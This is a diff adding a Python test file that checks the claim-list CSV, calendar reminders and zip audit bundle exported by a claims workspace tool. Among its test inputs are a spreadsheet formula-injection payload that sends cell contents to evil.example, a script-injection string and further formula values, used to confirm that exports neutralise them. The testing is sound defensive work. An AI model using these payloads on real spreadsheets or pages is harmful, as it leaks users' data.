@@ -1,0 +1,219 @@
+"""The files the workspace page hands out, read back by Python: the claim list (csv), the
+reminders (icalendar) and the audit bundle (zipfile), each checked against the rules as
+generator/workspace.py applies them. The browser modules make the files, run by node."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import shutil
+import subprocess
+import zipfile
+from datetime import date
+from pathlib import Path
+from typing import Any
+
+from icalendar import Calendar
+
+from generator.timing import cutoff, period_for
+from generator.workspace import activity_timing, keep_until, stage_of, workspace_statuses
+
+from .conftest import ROOT
+from .test_workspace_vectors import DATA, HERE, RULES
+
+TOOLS = str(HERE / "js" / "run_workspace_tools.js")
+NOW = "2026-09-01T10:00:00.000Z"
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Open"), "quoted"; a,b\r\n'
+    "line two <script>alert(1)</script>"
+)
+CLAIM_HEADER = [
+    "Claim name", "Claim number", "Activity", "Usage period", "Start", "End", "Currency",
+    "Planned amount", "Claimed", "Approved", "Paid", "Status", "Claim by", "Claim deadline",
+    "Resolution deadline", "Next action", "Next action due", "Proof done", "Notes",
+]  # fmt: skip
+
+
+def run_node(*args: str) -> bytes:
+    """Runs tests/js/run_workspace_tools.js and returns its output as bytes (CRLF kept)."""
+    found = shutil.which("node")
+    assert found is not None, "node is needed to run the workspace's browser modules."
+    done = subprocess.run(
+        [found, TOOLS, *args], capture_output=True, check=False, timeout=120, cwd=ROOT
+    )
+    assert done.returncode == 0, (done.stdout + done.stderr).decode()
+    return done.stdout
+
+
+def _write(folder: Path, name: str, value: Any) -> str:
+    path = folder / name
+    path.write_text(json.dumps(value), encoding="utf-8")
+    return str(path)
+
+
+def replay(folder: Path, steps: list[list[Any]]) -> str:
+    """The workspace file that workspace.js's reducers make from ``steps`` (see the tool)."""
+    return run_node(
+        "replay", _write(folder, "data.json", DATA), _write(folder, "steps.json", steps)
+    ).decode("utf-8")
+
+
+def _boxes(activity: str) -> list[tuple[str, str]]:
+    """(id, hash) of each tick box of an activity's portal checklist."""
+    found = []
+    for section in DATA["activities"][activity]["checklist"]["sections"]:
+        for entry in section["entries"]:
+            for box in entry.get("options") or [entry]:
+                found.append((box["id"], box["hash"]))
+    return found
+
+
+def busy_steps() -> list[list[Any]]:
+    """One claim in every status of the rules, over several periods and activities, with
+    ticks, evidence, a hostile claim, a deleted claim and funds."""
+    activities = sorted(DATA["activities"])
+    starts = ["2026-07-10", "2026-09-01", "2027-01-05", "2026-02-01", "2031-03-01", "2026-12-20"]
+    report = {"source": "earnings", "earned": 12500.5}
+    steps: list[list[Any]] = [
+        ["setFunds", "FY27H1", 40000, "@2026-07-01"],
+        ["setFunds", "FY27H2", 12500.5, "@2026-07-01", "USD", report],
+    ]
+    for i, status in enumerate(workspace_statuses(RULES)):
+        start = date.fromisoformat(starts[i % len(starts)])
+        end = start.replace(day=min(start.day + 20, 28))
+        fields: dict[str, Any] = {
+            "name": f"INV-{i} campaign",
+            "activity": activities[i % len(activities)],
+            "start": start.isoformat(),
+            "end": end.isoformat(),
+            "amount": 1000 + i,
+            "status": status["id"],
+        }
+        if i % 4 == 1:
+            fields["claimed"] = 900 + i
+        steps.append(["addClaim", fields, "@2026-08-01", f"c{i}"])
+        box, digest = _boxes(fields["activity"])[0]
+        steps.append(["tick", f"c{i}", box, digest, "@2026-08-02"])
+        entry = {"file": f"share/{i}.pdf", "note": "n"}
+        steps.append(["addEvidence", f"c{i}", box, entry, "@2026-08-02", f"e{i}"])
+    # An activity that ends after the usage period it is booked on: claim by = the deadline.
+    late = {"activity": activities[0], "start": "2026-12-01", "end": "2027-01-20", "amount": 5}
+    evil = {**late, "name": HOSTILE, "claim_number": "=1+1", "notes": HOSTILE}
+    booked = {**late, "name": "Late", "usage_period": "FY27H1"}
+    steps.append(["addClaim", booked, "@2026-08-01", "late"])
+    steps.append(["addClaim", evil, "@2026-08-01", "evil"])
+    entry = {"file": "@SUM(A1)", "note": HOSTILE}
+    box = _boxes(activities[0])[0][0]
+    steps.append(["addEvidence", "evil", box, entry, "@2026-08-03", "e-evil"])
+    steps.append(["addClaim", {**late, "name": "Gone"}, "@2026-08-01", "gone"])
+    steps.append(["deleteClaim", "gone", "@2026-08-04"])
+    return steps
+
+
+def _usage(claim: dict[str, Any]) -> str:
+    start = date.fromisoformat(claim["start"])
+    return claim.get("usage_period") or period_for(start, RULES).usage_half
+
+
+def _timing(claim: dict[str, Any]) -> Any:
+    start, end = date.fromisoformat(claim["start"]), date.fromisoformat(claim["end"])
+    return activity_timing(start, end, RULES, claim.get("usage_period"))
+
+
+def _inert(text: str) -> str:
+    """What a spreadsheet cell holds for ``text``: an apostrophe before a formula's start."""
+    return "'" + text if text[:1] in "=+-@\t\r" else text
+
+
+def test_claim_list_csv_reads_back_with_the_rules_claim_by_dates(tmp_path: Path) -> None:
+    """The claim list has a BOM, CRLF row ends and the header Excel users see; Python's csv
+    reads one row per claim, and each "Claim by" is the rules' claim-by date for its dates."""
+    workspace = json.loads(replay(tmp_path, busy_steps()))
+    args = (_write(tmp_path, "data.json", DATA), _write(tmp_path, "w.json", workspace))
+    raw = run_node("csv", *args)
+    assert raw.startswith(b"\xef\xbb\xbf")
+    text = raw.decode("utf-8-sig")
+    assert text.endswith("\r\n")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows[0] == CLAIM_HEADER
+    found = [dict(zip(CLAIM_HEADER, row, strict=True)) for row in rows[1:]]
+    assert len(found) == len(workspace["claims"]) > len(workspace_statuses(RULES))
+    # Outside quoted values every row ends with CRLF: re-joining the rows so gives the file.
+    joined = io.StringIO()
+    csv.writer(joined, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL).writerows(rows)
+    assert text.count("\r\n") == joined.getvalue().count("\r\n")
+    assert "\n" not in text.replace("\r\n", "").replace(HOSTILE.replace("\r\n", ""), "")
+    claim_bys = set()
+    for claim, row in zip(workspace["claims"], found, strict=True):
+        timing = _timing(claim)
+        assert row["Claim name"] == _inert(claim["name"])
+        assert row["Usage period"] == _usage(claim) == timing.period
+        assert row["Claim by"] == timing.claim_by.isoformat(), claim["name"]
+        assert row["Claim deadline"] == timing.claim_deadline.isoformat()
+        assert row["Resolution deadline"] == timing.resolution_deadline.isoformat()
+        claim_bys.add(timing.claim_by == timing.claim_deadline)
+    assert claim_bys == {True, False}, "both the 45-day advice and the deadline itself apply"
+
+
+def test_reminders_follow_the_rules_for_claims_in_each_stage(tmp_path: Path) -> None:
+    """For a claim in every status: to plan or submit -> its claim-by date; waiting on a review
+    or an answer -> its resolution deadline; approved, paid or closed -> no reminder. Each
+    reminder ends at the rules' cut-off of that day."""
+    workspace = json.loads(replay(tmp_path, busy_steps()))
+    text = run_node(
+        "ics", _write(tmp_path, "data.json", DATA), _write(tmp_path, "w.json", workspace), NOW
+    )
+    events = {str(e["UID"]): e for e in Calendar.from_ical(text).walk("VEVENT")}
+    expected = {}
+    for claim in workspace["claims"]:
+        stage, timing = stage_of(claim["status"], RULES), _timing(claim)
+        if stage in ("plan", "draft"):
+            expected[f"{claim['id']}-claim-by@coop-portal"] = timing.claim_by
+        elif stage in ("review", "action"):
+            expected[f"{claim['id']}-resolution@coop-portal"] = timing.resolution_deadline
+    assert set(events) == set(expected)
+    for uid, day in expected.items():
+        assert events[uid].decoded("DTEND") == cutoff(day, RULES), uid
+    stages = {stage_of(c["status"], RULES) for c in workspace["claims"]}
+    assert stages == {"plan", "draft", "review", "action", "approved", "paid", "closed"}
+
+
+def test_audit_bundle_opens_in_python_with_inert_text_and_the_rules_keep_dates(
+    tmp_path: Path,
+) -> None:
+    """The audit bundle is a zip whose CRCs check; its two CSV files read back with Python's
+    csv, a hostile claim's name, number, file and note come back as the same inert text, and
+    every "Keep until" is the rules' keep-until date of its claim's usage period."""
+    text = replay(tmp_path, busy_steps())
+    workspace = json.loads(text)
+    out = tmp_path / "bundle.zip"
+    args = (_write(tmp_path, "data.json", DATA), _write(tmp_path, "w.json", workspace))
+    run_node("bundle", *args, NOW, "2026-09-01", str(out))
+    with zipfile.ZipFile(out) as archive:
+        assert archive.testzip() is None
+        assert archive.namelist() == [
+            "workspace.json", "evidence.csv", "claims.csv", "reminders.ics", "README.txt",
+        ]  # fmt: skip
+        assert {i.date_time for i in archive.infolist()} == {(2026, 9, 1, 0, 0, 0)}
+        files = {name: archive.read(name) for name in archive.namelist()}
+    assert json.loads(files["workspace.json"]) == workspace
+
+    def table(name: str) -> list[dict[str, str]]:
+        return list(csv.DictReader(io.StringIO(files[name].decode("utf-8-sig"), newline="")))
+
+    claims = {c["name"]: c for c in workspace["claims"]}
+    evidence = table("evidence.csv")
+    assert {row["Claim name"] for row in evidence} == {_inert(n) for n in claims}
+    for row in evidence:
+        claim = next(c for n, c in claims.items() if _inert(n) == row["Claim name"])
+        assert row["Usage period"] == _usage(claim)
+        assert row["Keep until"] == keep_until(_usage(claim), RULES).isoformat()
+    logged = [r for r in evidence if r["Claim name"] == _inert(HOSTILE) and r["File or location"]]
+    assert [(r["File or location"], r["Note"]) for r in logged] == [("'@SUM(A1)", _inert(HOSTILE))]
+    listed = [r for r in table("claims.csv") if r["Claim name"] == _inert(HOSTILE)]
+    assert [(r["Claim number"], r["Notes"]) for r in listed] == [("'=1+1", _inert(HOSTILE))]
+    readme = files["README.txt"].decode("utf-8")
+    for usage in {_usage(c) for c in workspace["claims"]}:
+        assert f"- usage period {usage}: until {keep_until(usage, RULES).isoformat()} (" in readme
+    assert f"{RULES.money.poe_retention.months} months" in readme
